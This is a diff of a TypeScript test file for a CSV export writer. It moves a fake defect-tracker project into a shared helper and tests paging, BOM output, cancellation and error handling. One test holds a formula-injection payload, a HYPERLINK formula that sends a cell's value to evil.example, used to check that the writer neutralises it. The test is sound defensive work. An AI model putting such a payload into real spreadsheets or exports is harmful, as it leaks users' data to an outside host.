@@ -6,9 +6,11 @@ import * as assert from 'node:assert/strict';
 import { existsSync, mkdtempSync, readFileSync, readdirSync, rmSync, symlinkSync, writeFileSync } from 'node:fs';
 import { tmpdir } from 'node:os';
 import { join } from 'node:path';
-import type { CollectionQuery, Defect, FieldCatalog, FieldMeta, Page, PagedQuery, ProjectApi } from '../../../src/api/index';
+import type { CollectionQuery, Defect, FieldCatalog, FieldMeta } from '../../../src/api/index';
 import { writeCsv } from '../../../src/export/writer';
 import { readCsv } from '../../support/csv';
+import { fakeProject } from '../../support/fakeProject/project';
+import type { FakeProject } from '../../support/fakeProject/project';
 
 const FIELDS: FieldMeta[] = [
   { name: 'id', label: 'Defect ID', dataType: { name: 'Integer', multiple: false } },
@@ -20,37 +22,20 @@ const FIELDS: FieldMeta[] = [
 
 const catalog: FieldCatalog = { collection: 'defects', fields: FIELDS, get: (n) => FIELDS.find((f) => f.name === n), label: (n) => n };
 
-function fakeProject(total: number, onPage?: (n: number) => void): { api: Pick<ProjectApi, 'defects' | 'fields'>; queries: CollectionQuery[] } {
-  const queries: CollectionQuery[] = [];
-  const query = (q: CollectionQuery = {}): PagedQuery<Defect> => {
-    queries.push(q);
-    const size = q.pageSize ?? 500;
-    return {
-      total,
-      async *pages(): AsyncGenerator<Page<Defect>> {
-        for (let offset = 0, n = 0; offset < total; offset += size, n++) {
-          onPage?.(n);
-          q.signal?.throwIfAborted();
-          const items: Defect[] = [];
-          for (let id = offset + 1; id <= Math.min(total, offset + size); id++) {
-            items.push({
-              type: 'defect',
-              id,
-              name: id === 2 ? 'Crash, then "hang"' : `Defect ${id}`,
-              owner: 'bob',
-              'target-rel': { id: 1002, type: 'release' },
-              description: '<html><body><p>First</p><p>second &amp; last</p></body></html>',
-            });
-          }
-          yield { items, total, offset, nextOffset: offset + items.length, hasMore: offset + items.length < total };
-        }
-      },
-      [Symbol.asyncIterator]: () => {
-        throw new Error('not used');
-      },
-    };
-  };
-  return { api: { defects: { query } as unknown as ProjectApi['defects'], fields: async () => catalog }, queries };
+/** `total` Open defects (the query asks for Open ones), read page by page; `onPage(n)` runs as page n is asked for. */
+function exportProject(total: number, onPage?: (n: number) => void): { api: FakeProject; queries: CollectionQuery[] } {
+  const defects: Defect[] = Array.from({ length: total }, (_, i) => ({
+    type: 'defect',
+    id: i + 1,
+    status: 'Open',
+    name: i + 1 === 2 ? 'Crash, then "hang"' : `Defect ${i + 1}`,
+    owner: 'bob',
+    'target-rel': { id: 1002, type: 'release' },
+    description: '<html><body><p>First</p><p>second &amp; last</p></body></html>',
+  }));
+  const api = fakeProject({ defects, catalog });
+  api.beforePage = () => onPage?.(api.pageCalls.length - 1);
+  return { api, queries: api.queries };
 }
 
 const names = { users: new Map([['bob', { name: 'bob', fullName: 'Bob Builder' }]]), releases: { releases: [{ id: 1002, name: 'Release 2' }], cycles: [] } };
@@ -62,7 +47,7 @@ describe('export: the CSV writer', () => {
   afterEach(() => rmSync(dir, { recursive: true, force: true }));
 
   it('writes every page of the result with labelled columns and values as the views read them', async () => {
-    const { api, queries } = fakeProject(2500);
+    const { api, queries } = exportProject(2500);
     const path = join(dir, 'out.csv');
     const progress: number[] = [];
     const result = await writeCsv(api, { query, columns: ['id', 'name', 'owner', 'target-rel', 'description'], path, bom: true, names, pageSize: 1000, onProgress: (rows) => progress.push(rows) });
@@ -83,7 +68,7 @@ describe('export: the CSV writer', () => {
 
   it('writes no BOM when the setting is off', async () => {
     const path = join(dir, 'plain.csv');
-    await writeCsv(fakeProject(1).api, { query, columns: ['id'], path, bom: false, names });
+    await writeCsv(exportProject(1).api, { query, columns: ['id'], path, bom: false, names });
     assert.equal(readFileSync(path, 'utf8'), 'Defect ID\r\n1\r\n');
   });
 
@@ -91,7 +76,7 @@ describe('export: the CSV writer', () => {
     const path = join(dir, 'keep.csv');
     writeFileSync(path, 'earlier export');
     const cancel = new AbortController();
-    const { api } = fakeProject(5000, (n) => n === 2 && cancel.abort());
+    const { api } = exportProject(5000, (n) => n === 2 && cancel.abort());
     await assert.rejects(writeCsv(api, { query, columns: ['id', 'name'], path, bom: true, names, pageSize: 1000, signal: cancel.signal }), { name: 'AbortError' });
     assert.equal(readFileSync(path, 'utf8'), 'earlier export');
     assert.deepEqual(readdirSync(dir), ['keep.csv']);
@@ -100,7 +85,8 @@ describe('export: the CSV writer', () => {
   it('guards the header as it guards values: a field label can start a formula (issue 38.6)', async () => {
     const label = '=HYPERLINK("http://evil.example/?"&A2,"Summary")';
     const hostile: FieldCatalog = { ...catalog, get: (n) => (n === 'name' ? { ...FIELDS[1], label } : catalog.get(n)) };
-    const api = { ...fakeProject(1).api, fields: async () => hostile };
+    const { api } = exportProject(1);
+    api.catalog = hostile;
     const path = join(dir, 'guarded.csv');
     await writeCsv(api, { query, columns: ['id', 'name'], path, bom: false, guardFormulas: true, names });
     assert.deepEqual(readCsv(readFileSync(path, 'utf8'))[0], ['Defect ID', `'${label}`]);
@@ -116,7 +102,7 @@ describe('export: the CSV writer', () => {
     const realNow = Date.now;
     Date.now = () => now;
     try {
-      await writeCsv(fakeProject(3).api, { query, columns: ['id'], path, bom: false, names });
+      await writeCsv(exportProject(3).api, { query, columns: ['id'], path, bom: false, names });
     } finally {
       Date.now = realNow;
     }
@@ -126,7 +112,7 @@ describe('export: the CSV writer', () => {
 
   it("fails with the file system's reason when the folder cannot be written, without hanging", async () => {
     const path = join(dir, 'missing-folder', 'out.csv');
-    await assert.rejects(writeCsv(fakeProject(10).api, { query, columns: ['id'], path, bom: true, names }), { code: 'ENOENT' });
+    await assert.rejects(writeCsv(exportProject(10).api, { query, columns: ['id'], path, bom: true, names }), { code: 'ENOENT' });
     assert.ok(!existsSync(path));
   });
 });
